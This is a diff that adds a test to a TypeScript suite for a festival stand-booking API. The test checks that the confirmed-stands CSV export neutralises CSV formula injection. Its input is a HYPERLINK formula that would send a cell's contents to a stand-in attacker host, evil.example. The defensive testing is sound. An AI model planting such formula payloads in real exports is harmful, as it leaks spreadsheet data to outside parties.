@@ -239,6 +239,19 @@ describe('KortRIJK aan Culturen: editions, plots and stand bookings', () => {
     expect((parse(total, { columns: true }) as unknown[]).length).toBe(confirmed);
   });
 
+  it('exports what an association typed as text, never as a formula (CSV injection)', async () => {
+    const own = await createFestival(api, world, { name: 'Culturen CSV-injectie' });
+    const community = '=HYPERLINK("https://evil.example/?"&A1,"Klik")';
+    const apply = `mutation($i: ApplyForStandInput!) { applyForStand(input: $i) { bookings { status } } }`;
+    const slot = { plotId: own.plots.A1, startsAt: at(SATURDAY, '11:00'), endsAt: at(SATURDAY, '15:00') };
+    const applied = dataOf(await as('coordinator')(apply, { i: { editionId: own.editionId, organisationId: world.associationId, offering: 'FOOD', community, countryCode: 'af', slots: [slot] } })).applyForStand;
+    expect(applied.bookings).toEqual([{ status: 'CONFIRMED' }]);
+    const csv = dataOf(await as('coordinator')('query($e: ID!) { confirmedStandsCsv(editionId: $e) }', { e: own.editionId })).confirmedStandsCsv as string;
+    const [row] = parse(csv, { columns: true }) as Record<string, string>[];
+    expect(row.community).toBe(`'${community}`);
+    expect(row.association).toBe('Afghaanse Vereniging');
+  });
+
   /** A new association with an organiser who is logged in. */
   async function otherAssociation(name: string): Promise<{ organisationId: string; token: string }> {
     const organisationId = dataOf(await as('admin')('mutation($i: CreateOrganisationInput!) { createOrganisation(input: $i) { id } }', { i: { name, kind: 'ASSOCIATION' } })).createOrganisation.id;
